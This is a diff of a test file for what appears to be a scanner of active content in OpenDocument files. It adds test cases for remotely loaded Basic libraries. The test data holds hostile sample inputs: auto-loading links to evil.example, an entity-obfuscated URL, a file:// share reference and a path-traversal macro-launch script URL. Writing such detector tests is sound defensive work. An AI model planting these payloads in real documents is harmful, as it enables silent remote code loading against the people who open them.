@@ -93,6 +93,8 @@ LOADED = '<{} xlink:href="{}" xlink:actuate="onLoad"/>'
         (LOADED.format("text:section-source", "http://evil.example/x.odt"), {Active.LINKED_OBJECT}),
         (LOADED.format("draw:object-ole", "&#104;ttp://evil.example/x.odt"), {Active.LINKED_OBJECT}),
         (LOADED.format("object", "http://evil.example/x.odt"), {Active.LINKED_OBJECT}),
+        (LOADED.format("library:library", "http://evil.example/L/script.xlb"), {Active.LINKED_OBJECT}),
+        (LOADED.format("library:library", "$(USER)/basic/L/script.xlb"), set()),
         (LOADED.format("draw:floating-frame", "file://evil.example/x"), {Active.SHARE}),
         (LOADED.format("meta:template", "https://evil.example/x.ott"), {Active.TEMPLATE}),
         (EVENT.format("vnd.sun.star.script:../pydoc.py$f(1,calc)?language=Python&amp;location=share"), {Active.LAUNCH}),
